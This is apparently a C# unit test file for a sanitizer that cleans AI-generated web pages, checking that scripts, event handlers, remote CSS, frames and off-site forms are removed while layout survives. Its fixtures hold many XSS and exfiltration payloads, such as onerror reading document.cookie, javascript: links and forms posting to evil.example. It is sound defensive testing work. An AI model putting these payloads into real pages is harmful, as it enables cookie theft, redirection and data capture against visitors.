using SiteBuilder.Generation.Offline;
using SiteBuilder.Generation.Sanitizing;

namespace SiteBuilder.Generation.Tests;

public sealed class GeneratedHtmlSanitizerTests
{
    private const string ModelOutput = """
        <!DOCTYPE html>
        <html lang="en">
        <head>
        <meta charset="utf-8">
        <meta name="viewport" content="width=device-width, initial-scale=1, maximum-scale=1, user-scalable=no">
        <meta http-equiv="refresh" content="0; url=https://evil.example/">
        <title>Summer Sale | Acme</title>
        <base href="https://evil.example/">
        <link rel="stylesheet" href="https://cdn.example/site.css">
        <style>
        @import url("https://evil.example/track.css");
        :root{--primary:#0066CC;--gap:clamp(1rem,2vw,2rem)}
        .grid{display:grid;grid-template-columns:repeat(auto-fit,minmax(min(100%,16rem),1fr));gap:var(--gap);aspect-ratio:16/9}
        .spy{background:url(https://evil.example/pixel.gif)}
        .old{width:expression(alert(1))}
        @media (min-width:48rem){.hero{padding:4rem}}
        </style>
        <script>alert('xss')</script>
        </head>
        <body onload="steal()">
        <header><nav aria-label="Primary"><a href="#pricing">Pricing</a></nav></header>
        <main id="main">
        <section id="hero" class="hero" aria-labelledby="hero-title" data-kind="hero">
        <h1 id="hero-title">Summer Sale</h1>
        <p style="color:#333;margin-block:1rem">30% off everything</p>
        <img src="x.png" alt="A tent" width="400" height="300" onerror="alert(document.cookie)">
        <img src="data:image/png;base64,iVBORw0KGgo=" alt="Badge" width="20" height="20">
        <a href="javascript:alert(1)">Click me</a>
        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open</a>
        <a href="https://partner.example/" target="_blank">Partner</a>
        <a href="vbscript:msgbox(1)">Old</a>
        <svg viewBox="0 0 10 10" width="10" height="10" aria-hidden="true"><circle cx="5" cy="5" r="4" fill="#0066CC" onclick="x()"/></svg>
        </section>
        <iframe src="https://evil.example/"></iframe>
        <object data="movie.swf"></object>
        <embed src="movie.swf">
        <form action="https://collector.example/subscribe" method="post"><label for="e">Email</label><input id="e" type="email"><button type="submit" formaction="https://evil.example/">Go</button></form>
        <form action="#" method="get"><label for="f">Email</label><input id="f" type="email"></form>
        </main>
        <footer><p>© Acme</p></footer>
        </body>
        </html>
        """;

    [Fact]
    public void RemovesScriptsHandlersAndJavascriptLinksButKeepsThePage()
    {
        var clean = GeneratedHtmlSanitizer.Sanitize(ModelOutput);
        using var document = TestPages.Parse(clean);

        Assert.Empty(document.QuerySelectorAll("script"));
        Assert.DoesNotContain(document.All.SelectMany(e => e.Attributes), a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
        Assert.DoesNotContain("javascript:", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("vbscript:", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("alert", clean, StringComparison.Ordinal);

        // The rest survives: structure, text, styles, attributes that matter.
        Assert.StartsWith("<!DOCTYPE html>", clean, StringComparison.Ordinal);
        Assert.Equal("en", document.DocumentElement.GetAttribute("lang"));
        Assert.Equal("Summer Sale | Acme", document.Title);
        Assert.Equal("Summer Sale", document.QuerySelector("main section#hero h1#hero-title")!.TextContent);
        Assert.Equal("hero-title", document.QuerySelector("section")!.GetAttribute("aria-labelledby"));
        Assert.Equal("hero", document.QuerySelector("section")!.GetAttribute("data-kind"));
        Assert.Equal("Primary", document.QuerySelector("nav")!.GetAttribute("aria-label"));
        Assert.Equal("Click me", document.QuerySelectorAll("a")[1].TextContent);
        Assert.Null(document.QuerySelectorAll("a")[1].GetAttribute("href"));
        Assert.Equal("A tent", document.QuerySelector("img")!.GetAttribute("alt"));
        Assert.Equal("400", document.QuerySelector("img")!.GetAttribute("width"));
        Assert.NotNull(document.QuerySelector("svg circle[cx='5']"));
        Assert.NotNull(document.QuerySelector("footer"));
        Assert.Equal("color:#333;margin-block:1rem", document.QuerySelector("#hero p")!.GetAttribute("style"));

        var css = document.QuerySelector("style")!.TextContent;
        Assert.Contains(":root{--primary:#0066CC;--gap:clamp(1rem,2vw,2rem)}", css, StringComparison.Ordinal);
        Assert.Contains("grid-template-columns:repeat(auto-fit,minmax(min(100%,16rem),1fr))", css, StringComparison.Ordinal);
        Assert.Contains("aspect-ratio:16/9", css, StringComparison.Ordinal);
        Assert.Contains("@media (min-width:48rem){.hero{padding:4rem}}", css, StringComparison.Ordinal);
    }

    [Fact]
    public void RemovesFramesEmbedsBaseLinksAndMetaRefresh()
    {
        using var document = TestPages.Parse(GeneratedHtmlSanitizer.Sanitize(ModelOutput));
        Assert.Empty(document.QuerySelectorAll("iframe, object, embed, frame, frameset, base, link"));
        Assert.Empty(document.QuerySelectorAll("meta[http-equiv]"));
        Assert.NotNull(document.QuerySelector("meta[charset]"));
    }

    [Fact]
    public void RemovesRemoteCssAndCssExpressions()
    {
        var css = TestPages.Parse(GeneratedHtmlSanitizer.Sanitize(ModelOutput)).QuerySelector("style")!.TextContent;
        Assert.DoesNotContain("@import", css, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example", css, StringComparison.Ordinal);
        Assert.DoesNotContain("expression", css, StringComparison.Ordinal);
        Assert.Contains(".spy{}", css, StringComparison.Ordinal);
    }

    [Fact]
    public void KeepsInlineImagesButNotHtmlDataUrls()
    {
        var clean = GeneratedHtmlSanitizer.Sanitize(ModelOutput);
        using var document = TestPages.Parse(clean);
        Assert.Equal("data:image/png;base64,iVBORw0KGgo=", document.QuerySelectorAll("img")[1].GetAttribute("src"));
        Assert.DoesNotContain("data:text/html", clean, StringComparison.Ordinal);
    }

    [Fact]
    public void FormsStopPostingOffSite()
    {
        using var document = TestPages.Parse(GeneratedHtmlSanitizer.Sanitize(ModelOutput));
        var forms = document.QuerySelectorAll("form");
        Assert.Equal(2, forms.Length);
        Assert.Null(forms[0].GetAttribute("action"));
        Assert.Null(document.QuerySelector("button")!.GetAttribute("formaction"));
        Assert.Equal("#", forms[1].GetAttribute("action"));
        Assert.NotNull(document.QuerySelector("label[for=e]"));
    }

    [Fact]
    public void NewWindowLinksGetNoopener()
    {
        using var document = TestPages.Parse(GeneratedHtmlSanitizer.Sanitize(ModelOutput));
        var partner = document.QuerySelector("a[target]")!;
        Assert.Equal("https://partner.example/", partner.GetAttribute("href"));
        var rel = partner.GetAttribute("rel")!.Split(' ');
        Assert.Contains("noopener", rel);
        Assert.Contains("noreferrer", rel);
    }

    [Fact]
    public void TheViewportNoLongerBlocksZoom()
    {
        using var document = TestPages.Parse(GeneratedHtmlSanitizer.Sanitize(ModelOutput));
        Assert.Equal("width=device-width, initial-scale=1", document.QuerySelector("meta[name=viewport]")!.GetAttribute("content"));
    }

    [Fact]
    public void ScriptsInsideSvgAndStyleBreakoutsAreRemoved()
    {
        const string html = """
            <!DOCTYPE html><html><head><style>p{color:red}</style></head><body>
            <svg width="10" height="10"><script>alert(1)</script><a xlink:href="javascript:alert(2)"><text>x</text></a><use href="https://evil.example/s.svg#i"/><animate attributeName="href" to="javascript:alert(3)"/></svg>
            <div style="background:url(javascript:alert(4));color:blue">text</div>
            </body></html>
            """;
        var clean = GeneratedHtmlSanitizer.Sanitize(html);
        Assert.DoesNotContain("alert", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("<animate", clean, StringComparison.Ordinal);
        using var document = TestPages.Parse(clean);
        Assert.Equal("color:blue", document.QuerySelector("div")!.GetAttribute("style"));
        Assert.Equal("p{color:red}", document.QuerySelector("style")!.TextContent);
    }

    [Theory]
    [MemberData(nameof(TestPages.PromptPerTemplate), MemberType = typeof(TestPages))]
    public void TheComposersOwnPagesPassThroughUnchanged(string templateId, string prompt)
    {
        var page = TestPages.Compose(prompt, templateId);
        var clean = GeneratedHtmlSanitizer.Sanitize(page);

        // Byte for byte: the stored (sanitized) page equals the concatenated stream.
        Assert.Equal(page, clean);

        // The embedded design still reads back, so a sanitized page can be refined.
        Assert.NotNull(PageDesign.Read(clean));
    }

    [Fact]
    public async Task SanitizingInParallelGivesTheSameResult()
    {
        var expected = GeneratedHtmlSanitizer.Sanitize(ModelOutput);
        var results = await Task.WhenAll(Enumerable.Range(0, 16).Select(_ => Task.Run(() => GeneratedHtmlSanitizer.Sanitize(ModelOutput))));
        Assert.All(results, result => Assert.Equal(expected, result));
    }

    [Fact]
    public void ARefinedPageAlsoPassesThroughUnchanged()
    {
        var parent = TestPages.Compose(TestPages.SummerSale);
        var refined = OfflineComposer.Compose(TestPages.Request("add a pricing section, make it more playful and change the headline to \"Tents & more: <50% off>\"", parentHtml: parent));
        Assert.Equal(refined, GeneratedHtmlSanitizer.Sanitize(refined));
    }

    [Fact]
    public void AFragmentComesBackAsAWholeDocument()
    {
        var clean = GeneratedHtmlSanitizer.Sanitize("<p>Hello <b>world</b></p>");
        Assert.Contains("<html>", clean, StringComparison.Ordinal);
        Assert.Contains("<body><p>Hello <b>world</b></p></body>", clean, StringComparison.Ordinal);
    }

}

public sealed class CssSanitizerTests
{
    [Theory]
    [InlineData(".a{color:red}", ".a{color:red}")]
    [InlineData("@import 'https://x.example/a.css';.a{color:red}", ".a{color:red}")]
    [InlineData("@IMPORT url(x.css);", "")]
    [InlineData(".a{background:u\\72l(https://x.example/p.gif);color:red}", ".a{color:red}")]
    [InlineData(".a{background:url( 'data:image/svg+xml;utf8,<svg/>' )}", ".a{background:url( 'data:image/svg+xml;utf8,\\3c svg/>' )}")]
    [InlineData(".a{filter:url(#blur)}", ".a{filter:url(#blur)}")]
    [InlineData(".a{behavior:url(x.htc)}", ".a{}")]
    [InlineData(".a{-moz-binding:url(x.xml#b)}", ".a{}")]
    [InlineData(".a{width:expr/**/ession(alert(1))}", ".a{}")]
    [InlineData("@font-face{font-family:X;src:url(https://fonts.example/x.woff2)}", "@font-face{font-family:X;}")]
    [InlineData(".a{background-image:image-set('x.png' 1x)}", ".a{}")]
    [InlineData("/* note */.a{content:\"/* not a comment */\"}", " .a{content:\"/* not a comment */\"}")]
    [InlineData(".a{color:red}</style><script>alert(1)</script>", ".a{color:red}\\3c /style>\\3c script>alert(1)\\3c /script>")]
    [InlineData("@media (min-width:40rem){.a{.b{gap:1rem}}}", "@media (min-width:40rem){.a{.b{gap:1rem}}}")]
    public void CleansStyleSheets(string css, string expected) => Assert.Equal(expected, CssSanitizer.SanitizeStyleSheet(css));

    [Theory]
    [InlineData("color:red;background:url(https://x.example/a.png)", "color:red;")]
    [InlineData("color:red", "color:red")]
    [InlineData("margin:0;behavior:url(a.htc);padding:1rem", "margin:0;padding:1rem")]
    public void CleansDeclarationLists(string declarations, string expected) =>
        Assert.Equal(expected, CssSanitizer.SanitizeDeclarations(declarations));
}
